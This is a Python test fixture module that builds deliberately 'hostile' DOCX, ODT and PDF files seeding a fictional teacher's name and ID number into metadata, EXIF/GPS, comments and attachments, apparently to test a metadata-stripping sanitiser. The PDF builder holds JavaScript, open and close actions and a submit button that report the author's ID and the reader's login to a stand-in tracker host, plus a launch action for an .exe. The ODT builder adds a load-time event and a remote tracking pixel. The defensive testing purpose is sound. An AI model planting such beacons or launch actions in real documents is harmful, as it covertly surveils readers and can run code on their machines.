"""Hostile portfolio files, built for real: a participant's name and IIN put in every place a
DOCX, ODT or PDF can hold them outside its text, plus PDF JavaScript and actions that would
report who opens the file, and a JPEG whose EXIF names the author and where it was taken.

    docx = hostile_docx()
    odt = hostile_odt()
    pdf = hostile_pdf()

`BODY` is what each document says (and must still say after cleaning); `identifying` lists the
strings that must not survive anywhere in the copy.
"""

from __future__ import annotations

import io
import zipfile
from typing import cast
from xml.sax.saxutils import escape, quoteattr

NAME = "Әйгерім Сәрсенбаева"
IIN = "900101400123"
SCHOOL = "№17 Ақтөбе мектебі"
EMAIL = "aigerim.sarsenbaeva@mektep17.kz"
WHO = f"{NAME} {IIN} {SCHOOL}"
BODY = [
    "Сабақ жоспары: оқушылардың функционалдық сауаттылығын дамыту.",
    "Бағалау критерийлері сыныптағы жұмыс барысында қолданылды.",
]
INSERTED = "Қосылған сөйлем рефлексия туралы."
EXTERNAL = "https://tracker.example.net/seen"


def identifying() -> list[str]:
    return [NAME, "Әйгерім", "Сәрсенбаева", IIN, SCHOOL, EMAIL, "tracker.example.net"]


def hostile_jpeg() -> bytes:
    """A small JPEG whose EXIF names the author (Artist, XPAuthor), their IIN and where it
    was taken (GPS), with the name in a comment and an XMP packet as well."""
    from PIL import Image

    image = Image.new("RGB", (48, 32), (40, 120, 200))
    exif = Image.Exif()
    exif[0x013B] = f"{IIN} {EMAIL}"  # Artist (ASCII)
    exif[0x8298] = f"(c) {IIN}"  # Copyright
    exif[0x9C9D] = NAME.encode("utf-16-le") + b"\x00\x00"  # XPAuthor
    exif[0x010E] = WHO  # ImageDescription
    gps = exif.get_ifd(0x8825)
    gps[1] = "N"
    gps[2] = (50.0, 17.0, 0.0)
    gps[3] = "E"
    gps[4] = (57.0, 10.0, 0.0)
    xmp = (
        '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF '
        'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description '
        f'xmlns:dc="http://purl.org/dc/elements/1.1/" dc:creator={quoteattr(WHO)}/>'
        "</rdf:RDF></x:xmpmeta>"
    ).encode()
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif, comment=WHO.encode(), xmp=xmp)
    return out.getvalue()


def hostile_png() -> bytes:
    from PIL import Image
    from PIL.PngImagePlugin import PngInfo

    info = PngInfo()
    info.add_itxt("Author", WHO)
    info.add_text("Comment", IIN)
    out = io.BytesIO()
    Image.new("RGB", (16, 16), (250, 250, 250)).save(out, "PNG", pnginfo=info)
    return out.getvalue()


# --- DOCX -------------------------------------------------------------------------------------

_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
_MS_REL = "http://schemas.microsoft.com/office/2011/relationships/"
_PKG = "http://schemas.openxmlformats.org/package/2006/relationships"
_DOC_NS = (
    f'xmlns:w="{_W}" xmlns:r="{_R}" '
    'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" '
    'xmlns:w14="http://schemas.microsoft.com/office/word/2010/wordml" '
    'xmlns:w15="http://schemas.microsoft.com/office/word/2012/wordml" '
    'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
    'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture" '
    'mc:Ignorable="w14 w15"'
)


def _p(text: str) -> str:
    return f'<w:p><w:r><w:t xml:space="preserve">{escape(text)}</w:t></w:r></w:p>'


def _rels(*entries: tuple[str, str, str, bool]) -> str:
    lines = "".join(
        f'<Relationship Id="{rid}" Type="{kind}" Target={quoteattr(target)}'
        + (' TargetMode="External"' if external else "")
        + "/>"
        for rid, kind, target, external in entries
    )
    head = '<?xml version="1.0" encoding="UTF-8"?>'
    return f'{head}<Relationships xmlns="{_PKG}">{lines}</Relationships>'


def hostile_docx() -> bytes:
    who = escape(WHO)
    a_who = quoteattr(NAME)
    drawing = (
        '<w:p><w:r><w:drawing><wp:inline><wp:extent cx="457200" cy="304800"/>'
        '<wp:docPr id="1" name="Picture 1"/><a:graphic><a:graphicData '
        'uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic>'
        '<pic:nvPicPr><pic:cNvPr id="1" name="photo.jpeg"/><pic:cNvPicPr/></pic:nvPicPr>'
        '<pic:blipFill><a:blip r:embed="rIdImage"/><a:stretch><a:fillRect/></a:stretch>'
        '</pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="457200" cy="304800"/>'
        '</a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic>'
        "</a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"
    )
    document = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document {_DOC_NS}><w:body>'
        f"<!-- {who} --><?teacher {who}?>"
        + _p(BODY[0])
        + '<w:p><w:commentRangeStart w:id="0"/><w:r><w:t>'
        + escape(BODY[1])
        + '</w:t></w:r><w:commentRangeEnd w:id="0"/><w:r><w:commentReference w:id="0"/></w:r>'
        f'<w:ins w:id="1" w:author={a_who} w:date="2026-03-01T10:00:00Z"><w:r><w:t xml:space='
        f'"preserve"> {escape(INSERTED)}</w:t></w:r></w:ins>'
        f'<w:del w:id="2" w:author={a_who} w:date="2026-03-01T10:00:00Z"><w:r><w:delText>'
        f"{who}</w:delText></w:r></w:del></w:p>"
        f'<w:p><w:pPr><w:rPr><w:ins w:id="3" w:author={a_who} w:date="2026-03-01T10:00:00Z"/>'
        "</w:rPr></w:pPr>"
        f'<w:hyperlink r:id="rIdLink"><w:r><w:t>Сілтеме</w:t></w:r></w:hyperlink></w:p>'
        + drawing
        # A cover page: a content control bound to the author property, showing it, and
        # fields that show the author and a custom property.
        + '<w:sdt><w:sdtPr><w:alias w:val="Author"/><w:dataBinding w:prefixMappings="'
        "xmlns:ns0='http://purl.org/dc/elements/1.1/' xmlns:ns1='http://schemas.openxmlformats"
        '.org/package/2006/metadata/core-properties\'" w:xpath="/ns1:coreProperties[1]/'
        'ns0:creator[1]" w:storeItemID="{6C3C8BC8-F283-45AE-878A-BAB7291924A1}"/></w:sdtPr>'
        f"<w:sdtContent><w:p><w:r><w:t>{who}</w:t></w:r></w:p></w:sdtContent></w:sdt>"
        f'<w:p><w:fldSimple w:instr=" AUTHOR  \\* MERGEFORMAT "><w:r><w:t>{who}</w:t></w:r>'
        "</w:fldSimple></w:p>"
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space='
        '"preserve"> DOCPROPERTY  ЖСН </w:instrText></w:r><w:r><w:fldChar w:fldCharType='
        f'"separate"/></w:r><w:r><w:t>{IIN}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/>'
        "</w:r></w:p>"
        + '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" '
        'r:id="rIdOle"/></w:object></w:r></w:p>'
        "<w:sectPr/></w:body></w:document>"
    )
    core = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><cp:coreProperties '
        'xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" '
        'xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:dcterms="http://purl.org/dc/terms/" '
        'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">'
        f"<dc:title>Портфолио: {who}</dc:title><dc:subject>{who}</dc:subject>"
        f"<cp:keywords>{who}</cp:keywords><dc:description>{who}</dc:description>"
        f"<cp:category>{who}</cp:category><dc:creator>{who}</dc:creator>"
        f"<cp:lastModifiedBy>{who}</cp:lastModifiedBy><cp:revision>7</cp:revision>"
        f"<cp:contentStatus>{who}</cp:contentStatus><dc:identifier>{IIN}</dc:identifier>"
        '<dcterms:created xsi:type="dcterms:W3CDTF">2026-03-01T10:00:00Z</dcterms:created>'
        "</cp:coreProperties>"
    )
    app = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Properties xmlns="http://'
        'schemas.openxmlformats.org/officeDocument/2006/extended-properties"><Application>'
        f"Microsoft Office Word</Application><Company>{escape(SCHOOL)}</Company>"
        f"<Manager>{who}</Manager><Template>C:\\Users\\{escape(NAME)}\\Normal.dotm</Template>"
        "</Properties>"
    )
    custom = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Properties xmlns="http://'
        'schemas.openxmlformats.org/officeDocument/2006/custom-properties" xmlns:vt="http://'
        'schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes">'
        '<property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="2" name="ЖСН">'
        f"<vt:lpwstr>{IIN}</vt:lpwstr></property>"
        '<property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="3" name="Teacher">'
        f"<vt:lpwstr>{who}</vt:lpwstr></property></Properties>"
    )
    custom_xml = f'<?xml version="1.0"?><teacher><name>{who}</name><iin>{IIN}</iin></teacher>'
    item_props = (
        '<?xml version="1.0" encoding="UTF-8" standalone="no"?><ds:datastoreItem '
        'ds:itemID="{11111111-2222-3333-4444-555555555555}" xmlns:ds="http://schemas.'
        'openxmlformats.org/officeDocument/2006/customXml"><ds:schemaRefs/></ds:datastoreItem>'
    )
    comments = (
        f'<?xml version="1.0" encoding="UTF-8"?><w:comments xmlns:w="{_W}">'
        f'<w:comment w:id="0" w:author={a_who} w:initials="ӘС" w:date="2026-03-01T10:00:00Z">'
        f"{_p(WHO)}</w:comment></w:comments>"
    )
    people = (
        '<?xml version="1.0" encoding="UTF-8"?><w15:people xmlns:w15="http://schemas.microsoft'
        f'.com/office/word/2012/wordml"><w15:person w15:author={a_who}><w15:presenceInfo '
        f'w15:providerId="AD" w15:userId={quoteattr(EMAIL)}/></w15:person></w15:people>'
    )
    settings = (
        f'<?xml version="1.0" encoding="UTF-8"?><w:settings xmlns:w="{_W}" xmlns:r="{_R}">'
        '<w:attachedTemplate r:id="rIdTemplate"/><w:docVars>'
        f'<w:docVar w:name="Teacher" w:val={quoteattr(WHO)}/></w:docVars>'
        '<w:defaultTabStop w:val="708"/></w:settings>'
    )
    styles = (
        f'<?xml version="1.0" encoding="UTF-8"?><w:styles xmlns:w="{_W}"><w:style '
        'w:type="paragraph" w:default="1" w:styleId="Normal"><w:name w:val="Normal"/>'
        "</w:style></w:styles>"
    )
    document_rels = _rels(
        ("rIdStyles", _REL + "styles", "styles.xml", False),
        ("rIdSettings", _REL + "settings", "settings.xml", False),
        ("rIdComments", _REL + "comments", "comments.xml", False),
        (
            "rIdPeople",
            "http://schemas.microsoft.com/office/2011/relationships/people",
            "people.xml",
            False,
        ),
        ("rIdImage", _REL + "image", "media/image1.jpeg", False),
        ("rIdCustom", _REL + "customXml", "../customXml/item1.xml", False),
        ("rIdOle", _REL + "oleObject", "embeddings/oleObject1.bin", False),
        ("rIdLink", _REL + "hyperlink", "https://bilim.example.kz/lesson", True),
        ("rIdPixel", _REL + "image", f"{EXTERNAL}/{IIN}.png", True),
    )
    settings_rels = _rels(
        (
            "rIdTemplate",
            _REL + "attachedTemplate",
            f"file:///C:/Users/{NAME}/AppData/Roaming/Microsoft/Templates/Normal.dotm",
            True,
        )
    )
    package_rels = _rels(
        ("rId1", _REL + "officeDocument", "word/document.xml", False),
        (
            "rId2",
            "http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties",
            "docProps/core.xml",
            False,
        ),
        ("rId3", _REL + "extended-properties", "docProps/app.xml", False),
        ("rId4", _REL + "custom-properties", "docProps/custom.xml", False),
        (
            "rId5",
            "http://schemas.openxmlformats.org/package/2006/relationships/metadata/thumbnail",
            "docProps/thumbnail.jpeg",
            False,
        ),
    )
    main = "application/vnd.openxmlformats-officedocument.wordprocessingml"
    content_types = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.'
        'openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
        'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
        '<Default Extension="jpeg" ContentType="image/jpeg"/>'
        '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.'
        'oleObject"/>'
        f'<Override PartName="/word/document.xml" ContentType="{main}.document.main+xml"/>'
        f'<Override PartName="/word/styles.xml" ContentType="{main}.styles+xml"/>'
        f'<Override PartName="/word/settings.xml" ContentType="{main}.settings+xml"/>'
        f'<Override PartName="/word/comments.xml" ContentType="{main}.comments+xml"/>'
        f'<Override PartName="/word/people.xml" ContentType="{main}.people+xml"/>'
        '<Override PartName="/docProps/core.xml" ContentType="application/vnd.openxmlformats-'
        'package.core-properties+xml"/>'
        '<Override PartName="/docProps/app.xml" ContentType="application/vnd.openxmlformats-'
        'officedocument.extended-properties+xml"/>'
        '<Override PartName="/docProps/custom.xml" ContentType="application/vnd.openxmlformats-'
        'officedocument.custom-properties+xml"/>'
        '<Override PartName="/customXml/itemProps1.xml" ContentType="application/vnd.'
        'openxmlformats-officedocument.customXmlProperties+xml"/>'
        "</Types>"
    )
    ole = b"\xd0\xcf\x11\xe0" + WHO.encode() + IIN.encode() + WHO.encode("utf-16-le")
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", content_types)
        archive.writestr("_rels/.rels", package_rels)
        archive.writestr("docProps/core.xml", core)
        archive.writestr("docProps/app.xml", app)
        archive.writestr("docProps/custom.xml", custom)
        archive.writestr("docProps/thumbnail.jpeg", hostile_jpeg())
        archive.writestr("customXml/item1.xml", custom_xml)
        archive.writestr("customXml/itemProps1.xml", item_props)
        archive.writestr(
            "customXml/_rels/item1.xml.rels",
            _rels(("rId1", _REL + "customXmlProps", "itemProps1.xml", False)),
        )
        archive.writestr("word/document.xml", document)
        archive.writestr("word/_rels/document.xml.rels", document_rels)
        archive.writestr("word/styles.xml", styles)
        archive.writestr("word/settings.xml", settings)
        archive.writestr("word/_rels/settings.xml.rels", settings_rels)
        archive.writestr("word/comments.xml", comments)
        archive.writestr("word/people.xml", people)
        archive.writestr("word/media/image1.jpeg", hostile_jpeg())
        archive.writestr("word/embeddings/oleObject1.bin", ole)
    return out.getvalue()


# --- ODT --------------------------------------------------------------------------------------

_ODT_NS = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
    'xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink" '
    'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
    'xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0" '
    'xmlns:dc="http://purl.org/dc/elements/1.1/" '
    'xmlns:config="urn:oasis:names:tc:opendocument:xmlns:config:1.0" office:version="1.3"'
)


def hostile_odt() -> bytes:
    who = escape(WHO)
    events = (
        '<office:event-listeners><script:event-listener script:language="ooo:script" '
        'script:event-name="dom:load" '
        f'xlink:href={quoteattr(EXTERNAL + "?who=" + IIN)} xlink:type="simple"/>'
        "</office:event-listeners>"
    )
    content = (
        f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {_ODT_NS}>'
        f"<office:scripts>{events}</office:scripts>"
        "<office:body><office:text>"
        '<text:tracked-changes><text:changed-region text:id="ct1"><text:deletion>'
        f"<office:change-info><dc:creator>{who}</dc:creator><dc:date>2026-03-01T10:00:00"
        f"</dc:date></office:change-info><text:p>{who}</text:p></text:deletion>"
        "</text:changed-region></text:tracked-changes>"
        f"<!-- {who} -->"
        f'<text:p>{escape(BODY[0])}<text:change text:change-id="ct1"/></text:p>'
        f"<text:p>{escape(BODY[1])}<office:annotation><dc:creator>{who}</dc:creator>"
        f"<dc:date>2026-03-01T10:00:00</dc:date><text:p>{who}</text:p></office:annotation>"
        f"</text:p>"
        f"<text:p>Авторы: <text:author-name>{who}</text:author-name> "
        f"<text:initial-creator>{who}</text:initial-creator> "
        f'<text:user-defined text:name="ЖСН">{IIN}</text:user-defined></text:p>'
        '<text:p><draw:frame draw:name="photo" svg:width="2cm" svg:height="1.5cm">'
        '<draw:image xlink:href="Pictures/photo.jpg" xlink:type="simple"/></draw:frame>'
        '<draw:frame draw:name="logo" svg:width="1cm" svg:height="1cm">'
        '<draw:image xlink:href="Pictures/logo.png" xlink:type="simple"/></draw:frame>'
        '<draw:frame draw:name="pixel" svg:width="1mm" svg:height="1mm">'
        f"<draw:image xlink:href={quoteattr(EXTERNAL + '/' + IIN + '.png')} "
        'xlink:type="simple" xlink:actuate="onLoad"/></draw:frame>'
        '<draw:frame draw:name="formula" svg:width="2cm" svg:height="1cm">'
        '<draw:object xlink:href="./Object 1" xlink:type="simple"/></draw:frame></text:p>'
        '<office:forms><form:form xmlns:form="urn:oasis:names:tc:opendocument:xmlns:form:1.0" '
        f'form:name="f" xlink:href={quoteattr(EXTERNAL)} form:method="post"/></office:forms>'
        "</office:text></office:body></office:document-content>"
    )
    styles = (
        f'<?xml version="1.0" encoding="UTF-8"?><office:document-styles {_ODT_NS}>'
        '<office:master-styles><style:master-page style:name="Standard"><style:header>'
        f"<text:p><text:author-name>{who}</text:author-name> <text:title>{who}</text:title>"
        "</text:p></style:header></style:master-page></office:master-styles>"
        "</office:document-styles>"
    )
    meta = (
        f'<?xml version="1.0" encoding="UTF-8"?><office:document-meta {_ODT_NS}><office:meta>'
        f"<dc:title>{who}</dc:title><dc:subject>{who}</dc:subject>"
        f"<meta:keyword>{who}</meta:keyword><meta:keyword>{IIN}</meta:keyword>"
        f"<dc:description>{who}</dc:description><dc:creator>{who}</dc:creator>"
        f"<meta:initial-creator>{who}</meta:initial-creator>"
        f"<meta:printed-by>{who}</meta:printed-by><dc:language>kk-KZ</dc:language>"
        "<meta:editing-cycles>12</meta:editing-cycles>"
        f"<meta:generator>LibreOffice/{escape(NAME)}</meta:generator>"
        f'<meta:user-defined meta:name="ЖСН">{IIN}</meta:user-defined>'
        f'<meta:user-defined meta:name="Мұғалім">{who}</meta:user-defined>'
        f"<meta:template xlink:href={quoteattr('file:///home/' + NAME + '/t.ott')}/>"
        "</office:meta></office:document-meta>"
    )
    settings = (
        f'<?xml version="1.0" encoding="UTF-8"?><office:document-settings {_ODT_NS}>'
        '<office:settings><config:config-item-set config:name="ooo:configuration-settings">'
        f'<config:config-item config:name="PrinterName" config:type="string">{who}'
        "</config:config-item></config:config-item-set></office:settings>"
        "</office:document-settings>"
    )
    formula = (
        '<?xml version="1.0" encoding="UTF-8"?><math xmlns="http://www.w3.org/1998/Math/MathML">'
        "<semantics><mrow><mi>a</mi><mo>+</mo><mi>b</mi></mrow></semantics></math>"
    )
    formula_meta = meta
    manifest = (
        '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:'
        'names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.3">'
        '<manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.'
        'oasis.opendocument.text"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
        '<manifest:file-entry manifest:full-path="styles.xml" manifest:media-type="text/xml"/>'
        '<manifest:file-entry manifest:full-path="meta.xml" manifest:media-type="text/xml"/>'
        '<manifest:file-entry manifest:full-path="settings.xml" manifest:media-type="text/xml"/>'
        '<manifest:file-entry manifest:full-path="Pictures/photo.jpg" '
        'manifest:media-type="image/jpeg"/>'
        '<manifest:file-entry manifest:full-path="Thumbnails/thumbnail.png" '
        'manifest:media-type="image/png"/>'
        '<manifest:file-entry manifest:full-path="Object 1/" manifest:media-type="application/'
        'vnd.oasis.opendocument.formula"/>'
        '<manifest:file-entry manifest:full-path="Object 1/content.xml" '
        'manifest:media-type="text/xml"/>'
        '<manifest:file-entry manifest:full-path="Object 1/meta.xml" '
        'manifest:media-type="text/xml"/>'
        '<manifest:file-entry manifest:full-path="Attachments/' + escape(NAME) + '.txt" '
        'manifest:media-type="text/plain"/>'
        "</manifest:manifest>"
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(
            zipfile.ZipInfo("mimetype"),
            "application/vnd.oasis.opendocument.text",
            compress_type=zipfile.ZIP_STORED,
        )
        for name, data in (
            ("META-INF/manifest.xml", manifest),
            ("content.xml", content),
            ("styles.xml", styles),
            ("meta.xml", meta),
            ("settings.xml", settings),
            ("manifest.rdf", f"<rdf:RDF><n>{who}</n></rdf:RDF>"),
            ("Pictures/photo.jpg", hostile_jpeg()),
            ("Pictures/logo.png", hostile_png()),
            ("Thumbnails/thumbnail.png", hostile_png()),
            ("Object 1/content.xml", formula),
            ("Object 1/meta.xml", formula_meta),
            (f"Attachments/{NAME}.txt", f"{WHO}\n".encode()),
            ("Basic/Standard/Module1.xml", f"<script>' {who}</script>"),
        ):
            archive.writestr(name, data, zipfile.ZIP_DEFLATED)
    return out.getvalue()


# --- PDF --------------------------------------------------------------------------------------


def hostile_pdf() -> bytes:
    """A WeasyPrint PDF of `BODY`, then everything a participant could add with a PDF tool."""
    import weasyprint
    from pypdf import PdfReader, PdfWriter
    from pypdf.annotations import FreeText, Link, Text
    from pypdf.generic import (
        ArrayObject,
        DecodedStreamObject,
        DictionaryObject,
        FloatObject,
        NameObject,
        NumberObject,
        StreamObject,
        TextStringObject,
    )

    html = "".join(f"<p>{escape(p)}</p>" for p in BODY)
    pdf = weasyprint.HTML(string=f"<html><body>{html}</body></html>").write_pdf()
    assert pdf is not None
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf)))
    writer.add_metadata(
        {
            "/Author": WHO,
            "/Title": f"Портфолио: {WHO}",
            "/Subject": WHO,
            "/Keywords": f"{NAME}, {IIN}",
            "/Creator": f"Word for {NAME}",
            "/Producer": IIN,
        }
    )
    xmp = StreamObject()
    xmp.set_data(
        (
            '<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:'
            'meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
            '<rdf:Description rdf:about="" xmlns:dc="http://purl.org/dc/elements/1.1/">'
            f"<dc:creator><rdf:Seq><rdf:li>{escape(WHO)}</rdf:li></rdf:Seq></dc:creator>"
            '</rdf:Description></rdf:RDF></x:xmpmeta><?xpacket end="w"?>'
        ).encode()
    )
    xmp[NameObject("/Type")] = NameObject("/Metadata")
    xmp[NameObject("/Subtype")] = NameObject("/XML")
    root = writer._root_object
    root[NameObject("/Metadata")] = writer._add_object(xmp)
    root[NameObject("/PieceInfo")] = DictionaryObject(
        {NameObject("/Teacher"): TextStringObject(WHO)}
    )
    # Embedded files whose name and content say who the author is.
    writer.add_attachment(f"{NAME}.txt", f"{WHO}\n".encode())
    # Document-level JavaScript and an open action that reports the reader.
    script = (
        f"var who = '{NAME} {IIN}'; this.submitForm({{cURL: '{EXTERNAL}?who=' + who + "
        "'&reader=' + identity.loginName});"
    )
    javascript = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject(script),
        }
    )
    names = cast(DictionaryObject, root["/Names"].get_object())
    names[NameObject("/JavaScript")] = DictionaryObject(
        {
            NameObject("/Names"): ArrayObject(
                [TextStringObject(f"{NAME} report"), writer._add_object(javascript)]
            )
        }
    )
    root[NameObject("/OpenAction")] = writer._add_object(
        DictionaryObject(
            {
                NameObject("/S"): NameObject("/JavaScript"),
                NameObject("/JS"): TextStringObject(script),
            }
        )
    )
    root[NameObject("/AA")] = DictionaryObject(
        {
            NameObject("/WC"): DictionaryObject(
                {
                    NameObject("/S"): NameObject("/JavaScript"),
                    NameObject("/JS"): TextStringObject(script),
                }
            )
        }
    )
    writer.add_outline_item(title=WHO, page_number=0)
    page = writer.pages[0]
    page[NameObject("/AA")] = DictionaryObject(
        {
            NameObject("/O"): DictionaryObject(
                {
                    NameObject("/S"): NameObject("/URI"),
                    NameObject("/URI"): TextStringObject(f"{EXTERNAL}?opened={IIN}"),
                }
            )
        }
    )
    page[NameObject("/PieceInfo")] = DictionaryObject(
        {NameObject("/Teacher"): TextStringObject(WHO)}
    )
    # Annotations: a comment by the author, a link that phones home, a launch action,
    # a form field submitting to an outside address, and a file attachment.
    comment = Text(rect=(50, 550, 70, 570), text=WHO)
    comment[NameObject("/T")] = TextStringObject(WHO)
    writer.add_annotation(0, comment)
    free = FreeText(text=WHO, rect=(50, 500, 300, 520))
    free[NameObject("/T")] = TextStringObject(NAME)
    writer.add_annotation(0, free)
    writer.add_annotation(0, Link(rect=(50, 450, 200, 470), url=f"{EXTERNAL}?iin={IIN}"))
    launch = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (50, 400, 200, 420)]),
            NameObject("/A"): DictionaryObject(
                {
                    NameObject("/S"): NameObject("/Launch"),
                    NameObject("/F"): TextStringObject(f"C:\\Users\\{NAME}\\report.exe"),
                }
            ),
        }
    )
    writer.add_annotation(0, launch)
    submit = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Widget"),
            NameObject("/FT"): NameObject("/Btn"),
            NameObject("/T"): TextStringObject(NAME),
            NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (50, 350, 200, 370)]),
            NameObject("/A"): DictionaryObject(
                {
                    NameObject("/S"): NameObject("/SubmitForm"),
                    NameObject("/F"): DictionaryObject(
                        {
                            NameObject("/FS"): NameObject("/URL"),
                            NameObject("/F"): TextStringObject(f"{EXTERNAL}?iin={IIN}"),
                        }
                    ),
                }
            ),
        }
    )
    field = writer.add_annotation(0, submit)
    root[NameObject("/AcroForm")] = DictionaryObject(
        {NameObject("/Fields"): ArrayObject([field.indirect_reference])}
    )
    attached = DecodedStreamObject()
    attached.set_data(f"{WHO}\n".encode())
    attached[NameObject("/Type")] = NameObject("/EmbeddedFile")
    attachment = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/FileAttachment"),
            NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (50, 300, 70, 320)]),
            NameObject("/T"): TextStringObject(NAME),
            NameObject("/FS"): DictionaryObject(
                {
                    NameObject("/Type"): NameObject("/Filespec"),
                    NameObject("/F"): TextStringObject(f"{NAME}.txt"),
                    NameObject("/EF"): DictionaryObject(
                        {NameObject("/F"): writer._add_object(attached)}
                    ),
                }
            ),
        }
    )
    writer.add_annotation(0, attachment)
    # A photo: a JPEG (with its EXIF) drawn on the page, itself carrying XMP metadata.
    jpeg = hostile_jpeg()
    image = StreamObject()
    image._data = jpeg
    image.update(
        {
            NameObject("/Type"): NameObject("/XObject"),
            NameObject("/Subtype"): NameObject("/Image"),
            NameObject("/Width"): NumberObject(48),
            NameObject("/Height"): NumberObject(32),
            NameObject("/ColorSpace"): NameObject("/DeviceRGB"),
            NameObject("/BitsPerComponent"): NumberObject(8),
            NameObject("/Filter"): NameObject("/DCTDecode"),
            NameObject("/Metadata"): writer._add_object(xmp.clone(writer)),
        }
    )
    resources = cast(DictionaryObject, page["/Resources"].get_object())
    if "/XObject" not in resources:
        resources[NameObject("/XObject")] = DictionaryObject()
    xobjects = cast(DictionaryObject, resources["/XObject"].get_object())
    xobjects[NameObject("/ImPhoto")] = writer._add_object(image)
    drawn = DecodedStreamObject()
    drawn.set_data(b"q 96 0 0 64 400 700 cm /ImPhoto Do Q")
    contents = page.raw_get("/Contents")
    resolved = contents.get_object()
    parts = list(resolved) if isinstance(resolved, ArrayObject) else [contents]
    page[NameObject("/Contents")] = ArrayObject([*parts, writer._add_object(drawn)])
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()
